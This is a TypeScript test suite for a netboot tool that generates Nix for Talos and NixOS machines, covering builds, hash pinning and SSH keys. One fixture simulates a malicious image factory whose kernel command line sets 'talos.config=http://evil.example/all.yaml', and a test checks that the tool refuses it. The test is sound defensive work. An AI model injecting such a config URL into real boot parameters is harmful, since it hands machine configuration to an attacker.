// Generated Nix, checked by real Nix: every file parses, everything that needs no nixpkgs
// evaluates strictly, the demo and Talos classes really build (Talos from a fixture "factory"
// over HTTP on loopback), and NixOS classes evaluate when a nixpkgs is available.
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { execFileSync, spawnSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serveFolder, type StaticServer } from "./support/http.ts";
import { addDemoFiles, cleanupTempDirs, cli, exampleInventory, inventory, REPO, tempDir } from "./support/inventory.ts";
import { missing } from "./support/tools.ts";
import { nixBuildCommand } from "../src/adapters/nix.ts";
import type { ClassName } from "../src/core/names.ts";

const notHere = missing({ commands: ["nix-build", "nix-instantiate"] });

function sri(bytes: Buffer): string {
  return `sha256-${createHash("sha256").update(bytes).digest("base64")}`;
}

function nix(args: string[], cwd: string): string {
  return execFileSync(args[0]!, args.slice(1), { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
}

function allNixFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile() && e.name.endsWith(".nix"))
    .map((e) => path.join(e.parentPath, e.name));
}

describe.skipIf(notHere)("the generated Nix, with real Nix", () => {
  let factory: StaticServer;
  // Unique bytes per run: a fixed output already in the store would never be fetched again.
  const nonce = `${process.pid}-${Date.now()}`;
  const kernel = Buffer.from(`fixture talos kernel ${nonce}\n`.repeat(1000));
  const initramfs = Buffer.from(`fixture talos initramfs ${nonce}\n`.repeat(2000));
  // The factory's command line for metal/amd64 on Talos 1.12 (as its integration tests show it,
  // without a trailing newline), plus this run's nonce so that it is fetched for real too.
  const cmdline = Buffer.from(`talos.platform=metal console=tty0 init_on_alloc=1 slab_nomerge pti=on consoleblank=0 nvme_core.io_timeout=4294967295 printk.devkmsg=on selinux=1 netbuild.fixture=${process.pid}x${Date.now()}`);
  const schematic = "376567988ad370138ad8b2698212367b8edcb69b5fd68c80be1f2ec7d603b4ba";
  const WORKER = readFileSync(path.join(REPO, "test/fixtures/talos/worker.yaml"), "utf8");
  const posted: string[] = [];
  let answerId: string | undefined;

  beforeAll(async () => {
    const dir = tempDir();
    mkdirSync(path.join(dir, `image/${schematic}/v1.12.2`), { recursive: true });
    writeFileSync(path.join(dir, `image/${schematic}/v1.12.2/kernel-amd64`), kernel);
    writeFileSync(path.join(dir, `image/${schematic}/v1.12.2/initramfs-amd64.xz`), initramfs);
    writeFileSync(path.join(dir, `image/${schematic}/v1.12.2/cmdline-metal-amd64`), cmdline);
    // A factory (or mirror) whose command line for another schematic tries to set every host's config URL.
    const evil = path.join(dir, "image/9cba8e32753f91a16c1837ab8abf356af021706ef284aef07380780177d9a06c/v1.12.2");
    mkdirSync(evil, { recursive: true });
    writeFileSync(path.join(evil, "kernel-amd64"), kernel);
    writeFileSync(path.join(evil, "initramfs-amd64.xz"), initramfs);
    writeFileSync(path.join(evil, "cmdline-metal-amd64"), `talos.platform=metal talos.config=http://evil.example/all.yaml noapic nolapic ${nonce}`);
    // POST /schematics as the factory answers it for a canonical schematic: the sha256 of what it was sent.
    factory = await serveFolder(dir, (urlPath, body) => {
      posted.push(body.toString());
      if (urlPath !== "/schematics") return { status: 404, json: {} };
      return { status: 201, json: { id: answerId ?? createHash("sha256").update(body).digest("hex") } };
    });
  });
  afterAll(async () => {
    await factory?.close();
    cleanupTempDirs();
  });

  const CLASS_COMMENT = "# Talos workers. Keep this comment: `netbuild pin` must not drop it.\n";

  function talosRoot(hashes: string | undefined): string {
    return inventory({
      "netbuild.yaml": `talos:\n  factory: "${factory.url}"\n  configBaseUrl: http://10.0.2.2:8080/tree\n  baseConfigs: { worker: secrets/worker.yaml }\n`,
      "classes/talos-worker.yaml": `${CLASS_COMMENT}kind: talos\ntalos:\n  version: v1.12.2   # the release\n  schematic: {}\n  machine: { role: worker }\n${hashes ?? ""}kernelParams: [console=ttyS0]\n`,
      "hosts/dalet.yaml": 'class: talos-worker\nmac: "52:54:00:a1:00:02"\n',
      "secrets/worker.yaml": WORKER,
    });
  }
  const pinned = (k = sri(kernel), i = sri(initramfs), c = sri(cmdline)) => `  hashes:\n    kernel: ${k}\n    initramfs: ${i}\n    cmdline: ${c}\n`;

  it("writes Nix that parses, for every file of the example inventory", async () => {
    const root = exampleInventory();
    expect((await cli(["generate"], root)).code).toBe(0);
    const files = allNixFiles(path.join(root, ".netbuild/nix"));
    expect(files.length).toBeGreaterThanOrEqual(7);
    for (const f of [...files, ...allNixFiles(path.join(root, "nixos")), path.join(root, "npins/default.nix")]) nix(["nix-instantiate", "--parse", f], root);
  });

  it("hands a NixOS class its SSH keys (the site's and the class's for every machine, a host's for that host) and writes the module's scripts next to the module", async () => {
    const KEY = (n: number) => `ssh-ed25519 ${Buffer.concat([Buffer.from([0, 0, 0, 11]), Buffer.from("ssh-ed25519"), Buffer.from([0, 0, 0, 32]), Buffer.alloc(32, n)]).toString("base64")} key${n}`;
    const root = inventory({
      "netbuild.yaml": `ssh: { authorizedKeys: ["${KEY(1)}"] }\n`,
      "classes/n.yaml": `kind: nixos\nmodules: [./n.nix]\nssh: { authorizedKeys: ["${KEY(2)}", "${KEY(1)}"] }\n`,
      "classes/n.nix": "{ ... }: { }\n",
      "hosts/a.yaml": `class: n\nmac: "52:54:00:00:00:01"\nssh: { authorizedKeys: ["${KEY(3)}"] }\n`,
      "hosts/b.yaml": 'class: n\nmac: "52:54:00:00:00:02"\n',
    });
    expect((await cli(["generate"], root)).code).toBe(0);
    // The class expression, evaluated by Nix with netbuild.nixos standing in (nixpkgs is not here).
    const args = JSON.parse(nix(["nix-instantiate", "--eval", "--strict", "--json", "-E", "import ./.netbuild/nix/classes/n.nix { root = ./.; netbuild = { nixos = a: { inherit (a) authorizedKeys hostAuthorizedKeys hostsWithoutKeys flagPrefix; }; }; }"], root));
    expect(args).toEqual({ authorizedKeys: [KEY(1), KEY(2)], hostAuthorizedKeys: { a: [KEY(3)] }, hostsWithoutKeys: [], flagPrefix: "homelab" });
    for (const script of ["netbuild-cmdline.sh", "netbuild-hostname.sh", "provision-disks.sh"]) {
      expect(readFileSync(path.join(root, ".netbuild/nix", script), "utf8")).toBe(readFileSync(path.join(REPO, "nixos/modules", script), "utf8"));
    }
    // No keys for every machine: the hosts without their own are named, for the module's assertion.
    writeFileSync(path.join(root, "netbuild.yaml"), "flagPrefix: homelab\n");
    writeFileSync(path.join(root, "classes/n.yaml"), "kind: nixos\nmodules: [./n.nix]\n");
    expect((await cli(["generate"], root)).code).toBe(0);
    const bare = JSON.parse(nix(["nix-instantiate", "--eval", "--strict", "--json", "-E", "import ./.netbuild/nix/classes/n.nix { root = ./.; netbuild = { nixos = a: { inherit (a) authorizedKeys hostAuthorizedKeys hostsWithoutKeys; }; }; }"], root));
    expect(bare).toEqual({ authorizedKeys: [], hostAuthorizedKeys: { a: [KEY(3)] }, hostsWithoutKeys: ["b"] });
  });

  it("builds a class whose name has a dot, quoting it in nix-build's -A (Nix splits -A on dots)", async () => {
    expect(nixBuildCommand({ generated: "g", nixpkgs: undefined }, ["demo.v2" as ClassName, "demo" as ClassName]).args).toEqual(["g", "-A", '"demo.v2".netbuild', "-A", "demo.netbuild", "--no-out-link"]);
    const root = inventory({ "classes/demo.v2.yaml": "kind: prebuilt\nkernel: { path: ./demo/bzImage }\ninitrd: { path: ./demo/initrd }\n", "hosts/a.yaml": 'class: demo.v2\nmac: "52:54:00:00:00:01"\n' });
    addDemoFiles(root);
    const r = await cli(["build"], root);
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(path.join(root, "out/by-host/a/ipxe"), "utf8")).toContain("chain ../../by-class/demo.v2/ipxe");
    expect(readFileSync(path.join(root, "out/by-class/demo.v2/ipxe"), "utf8")).toMatch(/kernel [a-z0-9]{32}\/kernel /);
  });

  it("evaluates the demo and Talos classes strictly, without nixpkgs and without downloading", async () => {
    const root = talosRoot(pinned());
    addDemoFiles(root);
    writeFileSync(path.join(root, "classes/demo.yaml"), "kind: prebuilt\nkernel: { path: ./demo/bzImage }\ninitrd: { path: ./demo/initrd }\nkernelParams: [console=ttyS0]\n");
    expect((await cli(["generate"], root)).code).toBe(0);
    const before = factory.requests.length;
    for (const cls of ["demo", "talos-worker"]) {
      const params = JSON.parse(nix(["nix-instantiate", "--eval", "--strict", "--json", ".netbuild/nix", "-A", `${cls}.kernelParams`], root));
      expect(params).toContain("console=ttyS0");
      const drv = nix(["nix-instantiate", ".netbuild/nix", "-A", `${cls}.netbuild`], root);
      expect(drv).toMatch(/\/nix\/store\/\S+-netbuild-/);
    }
    expect(factory.requests.length).toBe(before);
  });

  it("builds a Talos class from the (fixture) Image Factory: kernel, initramfs and the factory's command line, pinned by hash", async () => {
    const root = talosRoot(pinned());
    const r = await cli(["build", "--json"], root);
    expect(r.code, r.stderr).toBe(0);
    const result = JSON.parse(r.stdout);
    expect(result.built).toEqual([expect.objectContaining({ name: "talos-worker", kind: "talos", kernel: expect.objectContaining({ size: kernel.length }), initrd: expect.objectContaining({ size: initramfs.length }) })]);
    const fetched = factory.requests.map((q) => q.path);
    expect(fetched).toEqual(expect.arrayContaining([`/image/${schematic}/v1.12.2/kernel-amd64`, `/image/${schematic}/v1.12.2/initramfs-amd64.xz`, `/image/${schematic}/v1.12.2/cmdline-metal-amd64`]));
    // The class script: the factory's command line as served, then the class's parameters.
    const script = readFileSync(path.join(root, "out/by-class/talos-worker/ipxe"), "utf8");
    expect(script).toContain(`kernel ${/[0-9a-z]{32}/.exec(script)![0]}/kernel initrd=initrd ${cmdline.toString()} console=ttyS0 \${cmdline}`);
    // The host's script adds its machine config URL; the config is in the tree, and announced.
    expect(readFileSync(path.join(root, "out/by-host/dalet/ipxe"), "utf8")).toContain("set cmdline hostname=dalet talos.config=http://10.0.2.2:8080/tree/by-host/dalet/talos.yaml");
    expect(readFileSync(path.join(root, "out/by-host/dalet/talos.yaml"), "utf8")).toContain("hostname: dalet");
    expect(result.machineConfigs).toEqual(["by-host/dalet/talos.yaml"]);
    expect(r.stderr).toContain("hold cluster secrets");
    expect(r.stderr).toContain("!!!   dalet  onto /dev/sda");
  });

  it("refuses a download whose hash does not match, naming the class, the artifact, its URL and the fix", async () => {
    const wrong = sri(Buffer.from("something else"));
    const root = talosRoot(pinned(wrong));
    const r = await cli(["build"], root);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`netbuild: class talos-worker: the kernel downloaded from ${factory.url}/image/${schematic}/v1.12.2/kernel-amd64 does not have the hash pinned in classes/talos-worker.yaml`);
    expect(r.stderr).toContain(`pinned ${wrong}`);
    expect(r.stderr).toContain(`the server sent ${sri(kernel)}`);
    expect(r.stderr).toContain("hint: if the factory's file changed and you trust it (or you changed the schematic, version, platform or factory), run `netbuild pin --class talos-worker`");
    expect(existsSync(path.join(root, "out"))).toBe(false);
  });

  it("refuses to build a Talos class with a hash missing, before running Nix (exit 2), naming the artifact and its URL", async () => {
    const root = talosRoot(`  hashes:\n    kernel: ${sri(kernel)}\n    initramfs: ${sri(initramfs)}\n`);
    const before = factory.requests.length;
    const r = await cli(["build"], root);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`class talos-worker: no pinned hash for the cmdline (talos.hashes.cmdline in classes/talos-worker.yaml), ${factory.url}/image/${schematic}/v1.12.2/cmdline-metal-amd64`);
    expect(r.stderr).toContain("hint: run `netbuild pin --class talos-worker`");
    expect(factory.requests.length).toBe(before);
  });

  it("pin writes the hashes the factory's files have, keeps the class file's comments and layout, and the class then builds", async () => {
    const root = talosRoot(undefined);
    const file = path.join(root, "classes/talos-worker.yaml");
    const before = readFileSync(file, "utf8");
    posted.length = 0;
    const r = await cli(["pin", "--class", "talos-worker"], root);
    expect(r.code, r.stderr).toBe(0);
    // The schematic was registered first, in its canonical form.
    expect(posted).toEqual(["customization: {}\n"]);
    const after = readFileSync(file, "utf8");
    expect(after).toBe(before.replace("  machine: { role: worker }\n", `  machine: { role: worker }\n${pinned()}`));
    // A second pin with the same files changes nothing; a changed file is re-pinned in place.
    expect((await cli(["pin"], root)).code).toBe(0);
    expect(readFileSync(file, "utf8")).toBe(after);
    writeFileSync(file, after.replace(sri(kernel), sri(Buffer.from("stale"))));
    expect((await cli(["pin"], root)).code).toBe(0);
    expect(readFileSync(file, "utf8")).toBe(after);
    // A base config committed to git in clear text is called out (git-crypt and the like are not).
    execFileSync("git", ["init", "-q", root]);
    execFileSync("git", ["-C", root, "add", "secrets/worker.yaml"]);
    const built = await cli(["build"], root);
    expect(built.code, built.stderr).toBe(0);
    expect(built.stderr).toContain("secrets/worker.yaml holds cluster secrets and is committed to git in clear text");
    writeFileSync(path.join(root, ".gitattributes"), "secrets/** filter=git-crypt diff=git-crypt\n");
    const again = await cli(["build"], root);
    expect(again.stderr).not.toContain("committed to git in clear text");
  });

  it("pin refuses, writing nothing, when the factory assigns the schematic another ID than netbuild computed", async () => {
    const root = talosRoot(undefined);
    const before = readFileSync(path.join(root, "classes/talos-worker.yaml"), "utf8");
    answerId = "0".repeat(64);
    const r = await cli(["pin"], root).finally(() => (answerId = undefined));
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`netbuild: class talos-worker: the factory gave the schematic the ID "${"0".repeat(64)}", and netbuild computed ${schematic}`);
    expect(readFileSync(path.join(root, "classes/talos-worker.yaml"), "utf8")).toBe(before);
  });

  it("refuses to boot with a factory command line that sets what netbuild sets per host (talos.config=)", async () => {
    const root = talosRoot(undefined);
    const file = path.join(root, "classes/talos-worker.yaml");
    writeFileSync(file, readFileSync(file, "utf8").replace("  schematic: {}\n", "  schematic: { customization: { extraKernelArgs: [noapic, nolapic] } }\n"));
    expect((await cli(["pin"], root)).code).toBe(0);
    const r = await cli(["build"], root);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`netbuild: class talos-worker: the command line from ${factory.url}/image/9cba8e32753f91a16c1837ab8abf356af021706ef284aef07380780177d9a06c/v1.12.2/cmdline-metal-amd64 sets "talos.config=http://evil.example/all.yaml", which netbuild sets per host`);
    expect(existsSync(path.join(root, "out"))).toBe(false);
  });

  it("pin names the URL and the status when the factory has no such file", async () => {
    const root = talosRoot(undefined);
    writeFileSync(path.join(root, "classes/talos-worker.yaml"), readFileSync(path.join(root, "classes/talos-worker.yaml"), "utf8").replace("v1.12.2", "v1.12.9"));
    const r = await cli(["pin"], root);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`netbuild: class talos-worker: the factory answered HTTP 404 for the kernel (${factory.url}/image/${schematic}/v1.12.9/kernel-amd64)`);
    expect(readFileSync(path.join(root, "classes/talos-worker.yaml"), "utf8")).not.toContain("hashes");
  });

  // nixpkgs cannot be downloaded on the machines this project is tested on. This test runs when
  // NETBUILD_NIXPKGS names a nixpkgs checkout (shell.nix sets it), and otherwise says it did not.
  const nixpkgs = process.env["NETBUILD_NIXPKGS"];
  it.skipIf(!nixpkgs)("evaluates the NixOS classes with nixpkgs (NETBUILD_NIXPKGS)", async () => {
    const root = exampleInventory();
    expect((await cli(["generate"], root)).code).toBe(0);
    const evaluated = (cls: string, attr: string) => JSON.parse(nix(["nix-instantiate", "--eval", "--strict", "--json", ".netbuild/nix", "--argstr", "nixpkgs", nixpkgs!, "-A", `${cls}.${attr}`], root));
    const placeholder = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA REPLACE-ME-with-your-public-key";
    for (const [cls, persistent] of [["ganeti-node", "/var/lib/ganeti"], ["navidrome", "/srv"]] as const) {
      const params = evaluated(cls, "kernelParams");
      expect(params[0]).toMatch(/^init=\/nix\/store\/.+\/init$/);
      nix(["nix-instantiate", ".netbuild/nix", "--argstr", "nixpkgs", nixpkgs!, "-A", `${cls}.netbuild`], root);
      // A way in: the class's keys for root.
      expect(evaluated(cls, "config.users.users.root.openssh.authorizedKeys.keys")).toContain(placeholder);
      // A stable identity: host keys on the provisioned storage, made after it is mounted.
      expect(evaluated(cls, "config.services.openssh.hostKeys").map((k: { path: string }) => k.path)).toEqual([`${persistent}/.netbuild/ssh/ssh_host_ed25519_key`, `${persistent}/.netbuild/ssh/ssh_host_rsa_key`]);
      expect(evaluated(cls, "config.systemd.services.sshd.after")).toContain("netbuild-ssh-host-keys.service");
      expect(evaluated(cls, "config.systemd.services.netbuild-ssh-host-keys.after")).toContain("provision-disks.service");
      // One-shot provisioning: the scripts as they are, with the class's devices and folder.
      const env = evaluated(cls, "config.systemd.services.provision-disks.environment");
      expect(env).toMatchObject({ NETBUILD_FLAG_PREFIX: "homelab", NETBUILD_PERSISTENT_DIR: persistent, NETBUILD_RUN_DIR: "/run/netbuild" });
      expect(evaluated(cls, "config.systemd.services.provision-disks.script")).toMatch(/netbuild-provision-disks\.sh$/);
      expect(evaluated(cls, "config.systemd.services.provision-disks.restartIfChanged")).toBe(false);
      expect(evaluated(cls, "config.systemd.services.netbuild-hostname.script")).toMatch(/netbuild-hostname\.sh$/);
    }
    // Services on the provisioned storage wait for it.
    expect(evaluated("ganeti-node", "config.systemd.services.provision-disks.requiredBy")).toContain("ganeti-noded.service");
    expect(evaluated("navidrome", "config.systemd.services.provision-disks.requiredBy")).toContain("navidrome.service");
    // Nobody could log in: evaluation fails, saying how to fix it.
    for (const f of ["classes/ganeti-node.yaml", "classes/navidrome.yaml"]) writeFileSync(path.join(root, f), readFileSync(path.join(root, f), "utf8").replace(/\nssh:\n  authorizedKeys:\n    - .*\n/, "\n"));
    expect((await cli(["generate"], root)).code).toBe(0);
    const locked = spawnSync("nix-instantiate", [".netbuild/nix", "--argstr", "nixpkgs", nixpkgs!, "-A", "navidrome.netbuild"], { cwd: root, encoding: "utf8" });
    expect(locked.status).not.toBe(0);
    expect(locked.stderr).toContain("sshd runs, but nobody could log in");
  });
  if (!nixpkgs) console.warn("NOT RUN — NixOS class evaluation: NETBUILD_NIXPKGS is not set (no nixpkgs on this machine; see README, Tests)");
});
